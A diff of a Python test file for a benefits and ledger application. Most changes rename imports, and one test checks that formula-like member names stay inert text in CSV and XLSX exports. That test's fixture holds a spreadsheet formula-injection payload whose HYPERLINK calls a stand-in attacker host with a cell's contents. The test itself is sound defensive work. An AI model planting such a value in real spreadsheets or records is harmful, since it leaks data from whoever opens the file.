@@ -14,16 +14,16 @@ import sqlalchemy as sa
 
 from collective.benefits import claims, plans, runs
 from collective.benefits.compute import PlanTerms, add_months
-from collective.demo_fund import BREAD_FUND
+from collective.demo.fund import BREAD_FUND
 from collective.errors import DomainError
 from collective.extensions import db
 from collective.ledger import services as ledger
 from collective.ledger.models import JournalEntry
-from collective.members import services as members
+from collective.members import accounts
 from collective.members.models import Membership
 from collective.pool import payouts
 from collective.pool.models import ClientPayment, TimeEntry
-from collective.reports import exports
+from collective.reports import exports, xlsx
 from tests import test_pool_views
 from tests.factories import commit, make_collective
 from tests.test_pool_views import _login
@@ -123,7 +123,7 @@ def test_a_plan_cannot_start_in_year_one(ctx):
 
 def test_names_that_look_like_formulas_stay_text_in_exports(ctx):
     founder = make_collective()
-    members.update_profile(founder.user, name='=HYPERLINK("http://e.vil/?x="&D2,"Priya")',
+    accounts.update_profile(founder.user, name='=HYPERLINK("http://e.vil/?x="&D2,"Priya")',
                            timezone="UTC", country=None, skills={})
     payouts.record_deposit(founder, founder, amount=1000, received_on=date.today(),
                            request_key="formula-1", today=date.today())
@@ -133,7 +133,7 @@ def test_names_that_look_like_formulas_stay_text_in_exports(ctx):
     members_cells = {r["member"] for r in rows if r["member"]}
     assert members_cells == {"'=HYPERLINK(\"http://e.vil/?x=\"&D2,\"Priya\")"}
     out = io.BytesIO()
-    exports.write_xlsx(query, out)
+    xlsx.write_xlsx(query, out)
     sheet = openpyxl.load_workbook(io.BytesIO(out.getvalue()))["Postings"]
     names = [row[6].value for row in sheet.iter_rows(min_row=2) if row[6].value]
     assert names and all(n.startswith("=HYPERLINK") for n in names)
